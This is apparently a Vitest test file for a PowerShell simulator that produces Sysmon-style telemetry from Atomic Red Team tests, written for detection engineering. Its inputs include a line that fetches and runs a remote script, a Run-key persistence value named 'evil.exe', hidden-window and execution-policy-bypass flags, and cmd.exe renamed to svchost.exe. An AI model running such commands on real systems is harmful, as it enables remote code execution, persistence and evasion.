import { describe, expect, it } from 'vitest';
import { scriptFromArgs } from '../../../src/lib/simulate/shells/powershell.ts';
import { commandLines, ofCategory, processes, run } from '../helpers.ts';

const children = (script: string) => commandLines(run('powershell', script)).slice(1);

describe('PowerShell', () => {
  it('starts native programs with the resolved path quoted', () => {
    expect(children('whoami /groups')).toEqual(['"C:\\Windows\\System32\\whoami.exe" /groups']);
  });
  it('re-quotes arguments holding spaces and drops other quotes', () => {
    expect(children(`net user 'a b' "c"`)).toEqual(['"C:\\Windows\\System32\\net.exe" user "a b" c', 'C:\\Windows\\system32\\net1  user "a b" c']);
  });
  it('aliases shadow programs: curl, sc, where, start are cmdlets', () => {
    expect(children('curl http://x\nsc x.txt y\nwhere.exe cmd')).toEqual(['"C:\\Windows\\System32\\where.exe" cmd']);
  });
  it('redirections belong to PowerShell, not to the program', () => {
    expect(children('cscript x.vbs > $env:TEMP\\out.txt 2>&1')).toEqual(['"C:\\Windows\\System32\\cscript.exe" x.vbs']);
  });
  it('the call operator runs a quoted path', () => {
    expect(processes(run('powershell', '& "C:\\tools\\x.exe" -a'))[1]).toMatchObject({ Image: 'C:\\tools\\x.exe', CommandLine: '"C:\\tools\\x.exe" -a' });
  });
  it('expands $env: variables and literal assignments', () => {
    expect(children('$p = "$env:TEMP\\a.exe"\n& $p')).toEqual(['"C:\\Users\\atomic\\AppData\\Local\\Temp\\a.exe"']);
  });
  it('Start-Process -FilePath -ArgumentList', () => {
    expect(children('Start-Process -FilePath "cmd.exe" -ArgumentList "/c whoami"')).toEqual(['"C:\\Windows\\System32\\cmd.exe" /c whoami', 'whoami']);
  });
  it('Start-Process with positional arguments', () => expect(children('Start-Process notepad.exe')).toEqual(['"C:\\Windows\\System32\\notepad.exe"']));
  it('finds commands inside blocks, pipelines and after keywords', () => {
    expect(children('if ($true) { ipconfig /all } else { }\nGet-Process | ForEach-Object { tasklist }')).toEqual([
      '"C:\\Windows\\System32\\ipconfig.exe" /all',
      '"C:\\Windows\\System32\\tasklist.exe"',
    ]);
  });
  it('ignores comments and strings that look like commands', () => {
    expect(children('# whoami\nWrite-Host "whoami"\n<# net user #>')).toEqual([]);
  });
  it('Invoke-Expression of a literal string is a script block of its own', () => {
    expect(ofCategory(run('powershell', "iex 'Get-Date'"), 'ps_script').map((e) => e['ScriptBlockText'])).toEqual(["& {iex 'Get-Date'}", 'Get-Date']);
  });
  it('nested powershell -EncodedCommand', () => {
    const encoded = Buffer.from('whoami', 'utf16le').toString('base64');
    expect(children(`powershell.exe -EncodedCommand ${encoded}`)).toEqual([
      `"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -EncodedCommand ${encoded}`,
      '"C:\\Windows\\System32\\whoami.exe"',
    ]);
  });
  it('Invoke-CimMethod Win32_Process Create starts the process under WmiPrvSE', () => {
    expect(
      processes(run('powershell', "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine = 'calc.exe'}"))[1],
    ).toMatchObject({ Image: 'C:\\Windows\\System32\\calc.exe', ParentImage: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe' });
  });
  it('Set-ItemProperty writes the registry (Sysmon 13) as powershell.exe', () => {
    expect(ofCategory(run('powershell', 'Set-ItemProperty -Path "HKCU:\\Software\\X" -Name "Run" -Value "evil.exe"'), 'registry_set')).toEqual([
      {
        EventID: 13,
        EventType: 'SetValue',
        Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        TargetObject: 'HKU\\S-1-5-21-3623811015-3361044348-30300820-1001\\Software\\X\\Run',
        Details: 'evil.exe',
        User: 'WIN-ATOMIC\\atomic',
      },
    ]);
  });
  it('New-ItemProperty -PropertyType DWord', () => {
    expect(
      ofCategory(run('powershell', 'New-ItemProperty -Path HKLM:\\SOFTWARE\\X -Name Y -Value 1 -PropertyType DWord -Force'), 'registry_set')[0]?.['Details'],
    ).toBe('DWORD (0x00000001)');
  });
});

describe('powershell.exe arguments', () => {
  it.each([
    [['-c', 'Get-Date'], 'Get-Date'],
    [['-NoP', '-W', 'Hidden', '-Command', 'a', 'b'], 'a b'],
    [['/c', 'x'], 'x'],
    [['-ep', 'bypass', 'Get-Date'], 'Get-Date'],
    [['-e', Buffer.from('id', 'utf16le').toString('base64')], 'id'],
    [['-File', 'x.ps1'], undefined],
  ])('%j → %s', (args, script) => expect(scriptFromArgs(args)).toBe(script));
});

describe('parser fixes from real tests', () => {
  it('& $env:SYSTEMROOT\\system32\\runonce.exe runs the program (T1547.014 #2)', async () => {
    const { run, commandLines } = await import('../helpers.ts');
    expect(commandLines(run('powershell', '& $env:SYSTEMROOT\\system32\\runonce.exe /AlternateShellStartup'))).toContain(
      '"C:\\Windows\\system32\\runonce.exe" /AlternateShellStartup',
    );
  });
});

describe('programs by name and values that are not known', () => {
  it('a program on PATH called by name is started (T1046 #3: nmap); a Get- noun, a function or a hashtable key is not', async () => {
    const { run, processes } = await import('../helpers.ts');
    const images = (cmd: string) => processes(run('powershell', cmd)).map((f) => String(f['Image']).split('\\').pop());
    expect(images('nmap 127.0.0.1')).toEqual(['powershell.exe', 'nmap.exe']);
    expect(images('Item Variable:_')).toEqual(['powershell.exe']);
    expect(images('function samfile { }\nsamfile -consoleoutput')).toEqual(['powershell.exe']);
    expect(images("$e = @{\n  Start = '0x00000010'\n}")).toEqual(['powershell.exe']);
  });
  it('the ise alias starts powershell_ise.exe (Windows PowerShell 5.1: ise -> powershell_ise.exe), it is no cmdlet', async () => {
    const { run, processes } = await import('../helpers.ts');
    const events = run('powershell', 'ise C:\\temp\\x.ps1');
    expect(processes(events).slice(1)).toEqual([
      expect.objectContaining({
        Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell_ise.exe',
        OriginalFileName: 'powershell_ise.EXE',
        CommandLine: '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell_ise.exe" C:\\temp\\x.ps1',
        ParentImage: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      }),
    ]);
    expect(events.filter((e) => e.fields['EventID'] === 4103 && /powershell_ise/i.test(JSON.stringify(e.fields)))).toEqual([]);
  });
  it('a program named by a missing payload function is not guessed (T1070.006 #8: timestomp from an unavailable script)', async () => {
    const { simulateTest } = await import('../../../src/lib/simulate/harness.ts');
    const run = simulateTest({
      guid: 'g',
      platforms: ['windows'],
      executor: 'powershell',
      elevationRequired: false,
      commandResolved: "IEX (iwr 'https://example.org/timestomp.ps1')\ntimestomp -dest x",
    });
    expect(run.events.filter((e) => e.fields['EventID'] === 1).length).toBe(1);
  });
  it('a variable assigned different values in branches is unknown (T1003.001 #13)', async () => {
    const { run, processes } = await import('../helpers.ts');
    const script =
      'if (Test-Path x) {\n  $binary_path = "C:\\Windows\\System32\\rdrleakdiag.exe"\n} else {\n  $binary_path = "File not found"\n}\n& $binary_path /p 1';
    expect(processes(run('powershell', script)).map((f) => f['Image'])).toEqual(['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe']);
  });
});

describe('parenthesised concatenations', () => {
  it('copy and Start-Process with ($env:TEMP + "\\svchost.exe") run the renamed cmd.exe (T1036.003 #7)', async () => {
    const { run, processes } = await import('../helpers.ts');
    const p = processes(
      run(
        'powershell',
        'copy "$env:ComSpec" ($env:TEMP + "\\svchost.exe")\n$myT1036_003 = (Start-Process -PassThru -FilePath ($env:TEMP + "\\svchost.exe")).Id\nStop-Process -ID $myT1036_003',
      ),
    );
    expect(p[1]).toMatchObject({ Image: 'C:\\Users\\atomic\\AppData\\Local\\Temp\\svchost.exe', OriginalFileName: 'Cmd.Exe' });
  });
});
